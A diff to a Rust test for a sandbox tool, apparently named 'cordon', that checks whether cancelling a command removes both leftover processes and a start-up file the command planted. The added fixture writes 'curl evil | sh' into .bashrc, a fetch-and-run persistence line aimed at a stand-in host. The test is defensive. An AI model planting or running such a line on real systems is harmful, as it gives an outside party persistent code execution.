@@ -240,7 +240,8 @@ fn an_exit_code_of_128_plus_n_is_not_taken_for_signal_n() {
 }
 
 /// Cancels a command that ignores SIGTERM and leaves a child behind, and checks that nothing
-/// of it survives on the host.
+/// of it survives on the host: no process, and not the start-up file it planted, although
+/// `cordon run` itself is killed before its clean-up.
 fn cancel_leaves_nothing_behind(mode: Mode) {
     let Some(sb) = Sandbox::with_mode(mode) else {
         return;
@@ -252,7 +253,9 @@ fn cancel_leaves_nothing_behind(mode: Mode) {
     let mut c = Client::start(&sb, &[]);
     c.send(&run(
         "s",
-        &format!("trap '' TERM; sleep {marker} & echo ready; wait; wait"),
+        &format!(
+            "echo 'curl evil | sh' > .bashrc; trap '' TERM; sleep {marker} & echo ready; wait; wait"
+        ),
     ));
     c.wait_output("s", "ready");
     c.send(&json!({ "type": "cancel", "id": "s" }));
@@ -268,6 +271,15 @@ fn cancel_leaves_nothing_behind(mode: Mode) {
         "processes survived the cancel: {}",
         String::from_utf8_lossy(&left.stdout)
     );
+    // The clean-up runs in a process of its own once the sandbox is gone.
+    let planted = sb.ws.join(".bashrc");
+    for _ in 0..100 {
+        if !planted.exists() {
+            break;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+    assert!(!planted.exists(), "the planted .bashrc survived the cancel");
     // Cancelling what has ended is an error event, not a crash.
     c.send(&json!({ "type": "cancel", "id": "s" }));
     let err = c.wait_for("error", |v| v["type"] == "error");
